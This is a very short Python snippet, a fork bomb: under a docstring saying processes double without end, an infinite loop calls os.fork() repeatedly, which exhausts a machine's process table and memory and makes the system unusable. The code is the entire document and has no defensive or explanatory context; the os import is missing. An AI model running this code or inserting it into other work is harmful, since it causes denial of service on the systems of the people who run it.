"""Processes that double without end."""

while True:
    os.fork()
